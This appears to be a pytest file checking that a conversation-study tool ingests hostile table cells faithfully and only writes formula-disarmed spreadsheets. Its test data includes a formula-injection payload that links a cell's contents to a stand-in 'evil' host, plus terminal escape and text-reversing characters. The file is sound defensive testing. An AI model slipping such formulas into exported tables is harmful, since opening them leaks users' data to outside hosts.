"""Hostile tables (C): what stands in a cell comes out as it stood, or is refused in our words.

Each comment says what happens by default, without our guard.
"""

import csv
import json
import random
import time
from pathlib import Path
from typing import Any

import pytest

from convostudy.errors import BadExport, UnknownExport
from convostudy.project.ingestion import ingest
from convostudy.sources import read
from convostudy.sources._delimited import read_delimited
from source_code import calls
from sources_files import HEADER, connections, folder, message, messages, said

# C2. read_csv makes NaN, NaN, 100000.0, 7.0, True and -0.0 of these.
LOOK_LIKE_VALUES = [
    "NA",
    "null",
    "1e5",
    "007",
    "TRUE",
    "-0",
    "<NA>",
    "None",
    "nan",
    "1_000",
    "#N/A",
]


def _of(path: Path, data: str | bytes) -> Path:
    path.write_bytes(data if isinstance(data, bytes) else data.encode())
    return path


@pytest.mark.parametrize("broken", [False, True], ids=["by Arrow", "record by record"])
def test_words_that_look_like_values_survive_to_the_stored_study(
    tmp_path: Path, broken: bool
) -> None:
    # Each is somebody's name, what somebody wrote, and what the conversation is called.
    rows = [message(sender=w, text=w, conversation=w, subject=w) for w in LOOK_LIKE_VALUES]
    text = messages(*rows)
    if broken:  # a stray quotation mark, so that the slow reader reads it
        text = text.replace("\n", f'\n{",".join(["x"] * 8)}, a"b,,,\n', 1)
    export = folder(tmp_path / "x", messages=text)
    ties = connections(*((w, w, "01 May 2025") for w in LOOK_LIKE_VALUES))
    folder(export, Connections=ties)
    study = ingest(export, tmp_path / "study", owner="Dana Holt")
    kept = study.messages
    assert sorted(kept["text"]) == sorted(LOOK_LIKE_VALUES)
    assert sorted(kept["conversation_id"]) == sorted(LOOK_LIKE_VALUES)
    assert set(LOOK_LIKE_VALUES) <= set(study.people["name"])
    assert kept["text"].isna().sum() == 0


# An outgoing CSV would be read the same way: none of our code calls a reader that guesses.
def test_no_reader_that_guesses_types_reads_a_table() -> None:
    for call in calls("read_csv", "read_table", "read_excel", "read_json", "read_html", "read_xml"):
        options = {option.arg for option in call.node.keywords}
        of_arrow = call.receiver == "csv" and "convert_options" in options  # with our types
        of_pandas = {"dtype", "keep_default_na"} <= options
        somebody_elses = call.receiver not in ("pd", "pandas", "csv")
        assert of_arrow or of_pandas or somebody_elses, str(call)


# C3. csv.Error: field larger than field limit (131072).
@pytest.mark.parametrize("other", ["Hello", 'a 5" pot'], ids=["by Arrow", "record by record"])
def test_a_field_of_any_length(tmp_path: Path, other: str) -> None:
    text = messages(message(text="x" * 200_000), message()).replace("Hello", other)
    before = csv.field_size_limit()
    export = read(_of(tmp_path / "messages.csv", text))
    assert sorted(export.messages["text"].str.len()) == [len(other), 200_000]
    assert csv.field_size_limit() == before


def test_a_field_longer_than_a_block_of_arrow(tmp_path: Path) -> None:
    text = messages(message(text="x" * 5_000_000), message())
    export = read(_of(tmp_path / "messages.csv", text))
    assert export.messages["text"].str.len().tolist() == [5_000_000, 5]


# C3. What Arrow, json and pandas raise, or replace without a word.
CELLS = {
    "NUL": ("a\0b", "a\0b"),
    "line separators": ("a\u2028b\u2029c\x85d\x0be", "a\u2028b\u2029c\x85d\x0be"),
    "line breaks in quotation": ("a\r\nb\nc", "a\nb\nc"),
    "delimiters": (',;\t"', ',;\t"'),
    "a formula": ('=HYPERLINK("http://evil/?"&A1)', '=HYPERLINK("http://evil/?"&A1)'),
    "a terminal's orders": ("\x1b[2J\x07", "\x1b[2J\x07"),
    "what turns letters round": ("\u202eabc", "\u202eabc"),
}


@pytest.mark.parametrize("kind", CELLS)
def test_letters_that_mean_something_to_programs(tmp_path: Path, kind: str) -> None:
    written, read_as = CELLS[kind]
    rows = [message(text=written), message(text="other", conversation="2-x")]
    export = read(_of(tmp_path / "messages.csv", messages(*rows)))
    assert sorted(export.messages["text"]) == sorted([read_as, "other"])


def test_half_a_character_is_replaced_and_told(tmp_path: Path) -> None:
    half = messages(message(text="Zoë Q")).encode().replace(b"Q", b"\xed\xa0\x80")
    export = read(_of(tmp_path / "messages.csv", half))
    assert export.messages["text"].iloc[0].startswith("Zoë \N{REPLACEMENT CHARACTER}")
    assert "encoding" in export.assumptions["about"].tolist()
    half = ("\ufeff" + messages(message(text="Q"))).encode("utf-16-le")
    half = half.replace("Q".encode("utf-16-le"), b"\x00\xd8")
    export = read(_of(tmp_path / "messages.csv", half))
    assert export.messages["text"].iloc[0].encode()


# A header twice: pandas renames the second to "CONTENT.1"; a dict of cells keeps the last.
def test_of_two_columns_of_one_name_the_first_counts(tmp_path: Path) -> None:
    lines = messages(message(text="first"), header=[*HEADER, "CONTENT"]).splitlines()
    lines[1] = lines[1].rsplit(",", 1)[0] + ",second"
    export = read(_of(tmp_path / "messages.csv", "\n".join(lines).replace("first,", "first,", 1)))
    assert export.messages["text"].tolist() == ["first"]


def test_a_lacking_column_is_named_and_no_cell(tmp_path: Path) -> None:
    text = messages(message(text="Zxqvarra"), header=[h for h in HEADER if h != "TO"])
    with pytest.raises(UnknownExport) as error:
        read(_of(tmp_path / "messages.csv", text))
    assert "FROM, TO, DATE, CONTENT" in said(error)
    assert "Zxqvarra" not in said(error)


# JSON: AttributeError, TypeError, OverflowError, OutOfBoundsDatetime, UnicodeEncodeError,
# IntCastingNaNError and ValueError (a number of 5,000 digits), each in a traceback.
EVENT: dict[str, Any] = {
    "resourceName": "messages",
    "method": "CREATE",
    "activityId": "1",
    "activity": {"thread": "2-a", "author": "b", "createdAt": 1_700_000_000_000, "content": {}},
}
ACTIVITIES: dict[str, object] = {
    "a list": [1],
    "text": "x",
    "a list as content": {"content": [1], "createdAt": 1_700_000_000_000},
    "infinity": {"createdAt": float("inf"), "content": {"text": "x"}},
    "the year 31,690,708": {"createdAt": 10**18},
    "a number without end": {"createdAt": 10**4_000},
    "a number below all": {"createdAt": -(10**30)},
    "attachments by number": {"createdAt": 1_700_000_000_000, "attachments": 5},
}


@pytest.mark.parametrize("kind", ACTIVITIES)
def test_json_of_another_shape_is_set_aside(tmp_path: Path, kind: str) -> None:
    events = [EVENT, {**EVENT, "activityId": "2", "activity": ACTIVITIES[kind]}]
    export = read(_of(tmp_path / "log.json", json.dumps(events)))
    assert len(export.messages) + len(export.rejected) == 2
    assert len(export.messages) >= 1


def test_json_with_half_characters_and_numbers_of_thousands_of_digits(tmp_path: Path) -> None:
    odd = {**EVENT, "activityId": "2", "resourceName": "\ud800", "method": ["x"]}
    export = read(_of(tmp_path / "log.json", json.dumps([EVENT, odd])))
    # A kind that is none is not repeated: it becomes a reason, which stands on pages.
    assert "change-log event: ? of ?" in export.ledger["reason"].tolist()
    row = json.dumps([{**message(), "CONTENT": "@@"}]).replace('"@@"', "9" * 5_000)
    with pytest.raises(BadExport, match="damaged"):
        read(_of(tmp_path / "page.json", row))


# A list of recipients: every part of it was joined with every other, some days for 2,000 names.
def test_thousands_of_recipients_take_no_time(tmp_path: Path) -> None:
    names = [f"Somebody {n}" for n in range(1_500)]
    many = message(to=", ".join(names), recipient_profile_urls="")
    known = message(sender="Sela Quint, MBA, PhD", to="Somebody 7, Sela Quint, MBA, PhD")
    began = time.process_time()
    export = read(_of(tmp_path / "messages.csv", messages(many, known)))
    assert time.process_time() - began < 5  # minutes without the guard
    assert len(export.messages) == 2


# Arrow gives up at a row of another width, pandas at a quotation mark that is never closed.
def test_any_bytes_come_out_as_rows_or_as_rejected_rows() -> None:
    whole = messages(*(message(text=f"Zoë, {n}", conversation=f"2-{n}") for n in range(6))).encode()
    head = whole.index(b"\n") + 1
    chance = random.Random(3)
    n_rejected = 0
    for _ in range(300):
        data = bytearray(whole)
        for _ in range(chance.choice((1, 2, 5))):
            at = chance.randrange(head, len(data))
            data[at : at + chance.randrange(3)] = chance.choice(
                (b'"', b"\0", b",", b"\n", b"\r", b"\xff", b"\xed\xa0\x80", b"", b'""', b"\x1a")
            )
        table = read_delimited(bytes(data), lambda cells: cells == list(HEADER))
        assert table is not None
        assert set(table.cells.dtypes.astype("str")) == {"str"}
        n_rejected += len(table.rejected)
        assert len(table.lines) == len(table.cells)
    assert n_rejected > 100


# C1. to_excel stores "=..." as a live formula, to_csv writes it as it is: tables go out through the
# one writer that disarms them (test_sharing_package.py).
def test_no_spreadsheet_is_written() -> None:
    assert [str(c) for c in calls("to_excel", "ExcelWriter")] == []
    assert {c.file for c in calls("to_csv")} <= {"project/sharing/cells.py"}
